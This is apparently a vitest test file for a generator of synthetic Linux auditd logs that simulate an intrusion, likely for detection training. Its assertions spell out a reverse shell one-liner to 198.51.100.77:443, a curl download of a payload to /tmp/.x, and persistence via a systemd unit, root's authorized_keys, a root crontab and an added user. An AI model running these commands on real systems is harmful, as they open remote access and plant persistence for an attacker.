import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditValue, connectEvent, execveEvent, proctitleValue, renderAuditEvent, saddrInet } from './audit-format';
import { generateScenario } from './generate-scenario';

describe('auditd value encoding', () => {
  it.each([
    ['whoami', '"whoami"'],
    ['/tmp/.x', '"/tmp/.x"'],
    ['id;uname -a', '69643B756E616D65202D61'],
    ['say "hi"', '7361792022686922'],
    ['tab\there', '7461620968657265'],
  ])('%j → %s', (input, expected) => {
    expect(auditValue(input)).toBe(expected);
  });

  it('hex-encodes proctitle with NUL separators and cuts it at 128 bytes', () => {
    expect(proctitleValue(['whoami'])).toBe('"whoami"');
    expect(proctitleValue(['dash', '-p'])).toBe('64617368002D70'); // the go-libaudit fixture's value
    const long = proctitleValue(['bash', '-c', 'x'.repeat(300)]);
    expect(long.length).toBe(256);
  });

  it('writes sockaddr_in with the family little-endian and port/address big-endian', () => {
    expect(saddrInet('203.0.113.50', 80)).toBe('02000050CB0071320000000000000000');
    expect(saddrInet('169.254.169.254', 80)).toBe('02000050A9FEA9FE0000000000000000'); // go-libaudit fixture
  });

  it('renders one event as several records sharing one stamp', () => {
    const proc = { pid: 10, ppid: 1, uid: 33, gid: 33, auid: 4294967295, ses: 4294967295, tty: '(none)', comm: 'sh', exe: '/usr/bin/dash' };
    const text = renderAuditEvent('1772409600.123', 77, [
      ...execveEvent(proc, ['/bin/sh', '-c', 'id'], '/', '/bin/sh'),
      ...connectEvent(proc, ['sh'], '192.0.2.1', 443),
    ]);
    const stamps = new Set(
      text
        .trimEnd()
        .split('\n')
        .map((l) => /msg=audit\(([^)]+)\)/.exec(l)?.[1]),
    );
    expect(stamps).toEqual(new Set(['1772409600.123:77']));
    expect(text).toContain('type=EXECVE msg=audit(1772409600.123:77): argc=3 a0="/bin/sh" a1="-c" a2="id"');
    expect(text).toContain('arch=c000003e syscall=59');
  });
});

interface Event {
  serial: number;
  time: string;
  records: Map<string, string[]>;
}

/** The minimal auditd reader the checks below need: records grouped by serial, in file order. */
function readEvents(text: string): Event[] {
  const events: Event[] = [];
  for (const line of text.trimEnd().split('\n')) {
    const m = /^type=(\w+) msg=audit\((\d+\.\d{3}):(\d+)\): (.*)$/.exec(line);
    if (!m) throw new Error(`not an audit line: ${line}`);
    const [, type, time, serial, body] = m as unknown as [string, string, string, string, string];
    let ev = events[events.length - 1];
    if (!ev || ev.serial !== Number(serial)) {
      ev = { serial: Number(serial), time, records: new Map() };
      events.push(ev);
    }
    expect(ev.time).toBe(time);
    ev.records.set(type, [...(ev.records.get(type) ?? []), body]);
  }
  return events;
}

function field(body: string, key: string): string | undefined {
  return new RegExp(`(?:^| )${key}=("[^"]*"|\\S+)`).exec(body)?.[1];
}

function decode(v: string): string {
  return v.startsWith('"') ? v.slice(1, -1) : Buffer.from(v, 'hex').toString('utf8').replaceAll('\0', ' ');
}

describe('generated audit.log', () => {
  let dir: string;
  let web: Event[];
  let mail: Event[];
  beforeAll(async () => {
    dir = mkdtempSync(path.join(tmpdir(), 'sightline-audit-'));
    const r = await generateScenario({ outDir: dir, hosts: 8, days: 0.25, seed: 11, start: '2026-03-02T08:00:00Z' });
    web = readEvents(readFileSync(path.join(r.files.logsDir, 'web01/var/log/audit/audit.log'), 'utf8'));
    mail = readEvents(readFileSync(path.join(r.files.logsDir, 'mail01/var/log/audit/audit.log'), 'utf8'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('keeps each event contiguous, with strictly increasing serials and times', () => {
    for (const events of [web, mail]) {
      for (let i = 1; i < events.length; i++) {
        const [prev, cur] = [events[i - 1] as Event, events[i] as Event];
        expect(cur.serial).toBeGreaterThan(prev.serial);
        expect(Number(cur.time)).toBeGreaterThanOrEqual(Number(prev.time));
      }
    }
  });

  it('has the www-data reverse shell: execve with euid=33, proctitle decoding to the command, connect to :443', () => {
    const shells = web.filter((e) => (e.records.get('PROCTITLE') ?? []).some((p) => decode(field(p, 'proctitle') ?? '').includes('bash -i >& /dev/tcp/')));
    expect(shells.length).toBeGreaterThanOrEqual(2);
    const exec = shells.find((e) => field(e.records.get('SYSCALL')?.[0] ?? '', 'syscall') === '59');
    expect(field(exec?.records.get('SYSCALL')?.[0] ?? '', 'euid')).toBe('33');
    const argv = (exec?.records.get('EXECVE')?.[0] ?? '')
      .split(' ')
      .slice(1)
      .map((kv) => decode(kv.slice(kv.indexOf('=') + 1)));
    expect(argv.join(' ')).toMatch(/bash -i >& \/dev\/tcp\/198\.51\.100\.77\/443 0>&1/);
    const conn = shells.find((e) => e.records.has('SOCKADDR'));
    expect(field(conn?.records.get('SOCKADDR')?.[0] ?? '', 'saddr')).toBe(saddrInet('198.51.100.77', 443));
  });

  it('has the payload download and the persistence writes on mail01', () => {
    const titles = mail.flatMap((e) => (e.records.get('PROCTITLE') ?? []).map((p) => decode(field(p, 'proctitle') ?? '')));
    expect(titles).toContain('curl -o /tmp/.x http://203.0.113.50/x');
    const created = mail.flatMap((e) => (e.records.get('PATH') ?? []).filter((p) => p.includes('nametype=CREATE')).map((p) => decode(field(p, 'name') ?? '')));
    expect(created).toEqual(
      expect.arrayContaining(['/etc/systemd/system/netplan-sync.service', '/root/.ssh/authorized_keys', '/var/spool/cron/crontabs/root']),
    );
    expect(mail.some((e) => e.records.has('ADD_USER'))).toBe(true);
  });
});
